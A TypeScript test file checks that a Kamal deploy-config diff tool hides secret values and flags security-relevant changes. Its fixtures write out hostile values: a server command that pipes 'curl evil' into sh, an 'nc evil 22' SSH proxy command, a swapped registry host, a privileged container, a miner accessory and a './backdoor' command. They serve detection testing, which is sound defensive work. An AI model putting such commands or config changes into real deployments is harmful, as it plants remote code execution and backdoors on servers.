/**
 * The effective deploy (src/kamal/effective.ts) and its diff: the settings that matter, canonical
 * (key order, comments and defaults change nothing), with secret names and never secret values.
 */
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { configFingerprint, effectiveDeploy } from '../../src/kamal/effective.js';
import { diffDeploys } from '../../src/kamal/effective-diff.js';
import { readDeployPlanAndConfig } from '../../src/kamal/index.js';
import { project } from './helpers.js';

const SECRET_VALUE = 'hunter2-super-secret-value';
const BASE = `service: shop
image: acme/shop
servers:
  web:
    hosts:
      - 10.0.0.1
    cmd: bin/rails s
  job:
    hosts:
      - 10.0.0.2
    cmd: bin/jobs
env:
  clear:
    RAILS_ENV: production
  secret:
    - RAILS_MASTER_KEY
registry:
  server: ghcr.io
  username: acme
  password:
    - KAMAL_REGISTRY_PASSWORD
accessories:
  db:
    image: mysql:8.0
    host: 10.0.0.3
    port: 3306
builder:
  arch: amd64
  secrets:
    - GITHUB_TOKEN
`;
const SECRETS = `KAMAL_REGISTRY_PASSWORD=${SECRET_VALUE}\nRAILS_MASTER_KEY=${SECRET_VALUE}\nGITHUB_TOKEN=${SECRET_VALUE}\n`;

async function effective(files: Record<string, string>, destination?: string, version = 'v1') {
  const cwd = project({ '.kamal/secrets': SECRETS, ...files });
  const loaded = await readDeployPlanAndConfig({ cwd, version, env: {}, ...(destination ? { destination } : {}) });
  return { doc: effectiveDeploy(loaded), cwd };
}

describe('effectiveDeploy', () => {
  it('holds the settings Kamal acts on, with defaults and secret names only', async () => {
    const { doc } = await effective({ 'config/deploy.yml': BASE });
    expect(doc.images['app.shop']).toEqual(['ghcr.io/acme/shop:latest', 'ghcr.io/acme/shop:{version}']);
    expect(doc.images['accessory.db']).toEqual(['mysql:8.0']);
    expect(doc.servers.web).toMatchObject({ cmd: 'bin/rails s', hosts: ['10.0.0.1'] });
    expect(doc.defaults.env).toEqual({ clear: { RAILS_ENV: 'production' }, secret: ['RAILS_MASTER_KEY'] });
    expect(doc.ssh).toEqual({ user: 'root', port: 22 });
    expect(doc.registry).toEqual({ server: 'ghcr.io', username: 'acme' });
    expect(doc.builder.secrets).toEqual(['GITHUB_TOKEN']);
    expect(doc.accessories.db).toMatchObject({ image: 'mysql:8.0', host: '10.0.0.3', port: 3306 });
    expect(JSON.stringify(doc)).not.toContain(SECRET_VALUE);
  });

  it('is the same for another version, reordered keys, comments, written defaults and changed secret values', async () => {
    const a = (await effective({ 'config/deploy.yml': BASE })).doc;
    const reordered = BASE.replace('service: shop\nimage: acme/shop\n', 'image: acme/shop # the app\n# comment\nservice: shop\n').replace('builder:\n', 'ssh:\n  port: "22"\n  user: root\nbuilder:\n');
    const b = (await effective({ 'config/deploy.yml': reordered }, undefined, 'v2')).doc;
    const cwd = project({ 'config/deploy.yml': BASE, '.kamal/secrets': SECRETS.replaceAll(SECRET_VALUE, 'other') });
    const c = effectiveDeploy(await readDeployPlanAndConfig({ cwd, version: 'v1', env: {} }));
    expect(diffDeploys(a, b)).toEqual([]);
    expect(configFingerprint(b)).toBe(configFingerprint(a));
    expect(configFingerprint(c)).toBe(configFingerprint(a));
  });

  it('names each security-relevant change', async () => {
    const a = (await effective({ 'config/deploy.yml': BASE })).doc;
    const changed = async (yaml: string) => diffDeploys(a, (await effective({ 'config/deploy.yml': yaml })).doc);
    expect(await changed(BASE.replace('cmd: bin/rails s', `cmd: sh -c 'curl evil | sh'`))).toEqual([{ path: 'servers.web.cmd', from: 'bin/rails s', to: "sh -c 'curl evil | sh'" }]);
    expect((await changed(BASE.replace('    cmd: bin/jobs\n', '    cmd: bin/jobs\n    options:\n      privileged: true\n'))).map((c) => c.path)).toEqual(['servers.job.options']);
    expect((await changed(`${BASE}ssh:\n  proxy_command: nc evil 22\n`)).map((c) => c.path)).toEqual(['ssh.proxy_command']);
    expect((await changed(BASE.replace('server: ghcr.io', 'server: evil.io'))).map((c) => c.path)).toEqual(['images.app.shop', 'registry.server']);
    const extra = await changed(BASE.replace('accessories:\n', 'accessories:\n  miner:\n    image: evil/miner\n    host: 10.0.0.1\n'));
    expect(extra.map((c) => c.path)).toEqual(['accessories.miner', 'images.accessory.miner']);
    expect(extra[0]).toEqual({ path: 'accessories.miner', to: { image: 'evil/miner', host: '10.0.0.1' } });
  });

  it('follows the destination overlay', async () => {
    const { cwd, doc } = await effective({ 'config/deploy.yml': BASE, 'config/deploy.staging.yml': 'servers:\n  web:\n    cmd: bin/rails s\n' }, 'staging');
    expect(doc.destination).toBe('staging');
    writeFileSync(path.join(cwd, 'config/deploy.staging.yml'), 'servers:\n  web:\n    cmd: ./backdoor\n');
    const after = effectiveDeploy(await readDeployPlanAndConfig({ cwd, version: 'v1', env: {}, destination: 'staging' }));
    expect(diffDeploys(doc, after)).toEqual([{ path: 'servers.web.cmd', from: 'bin/rails s', to: './backdoor' }]);
  });
});
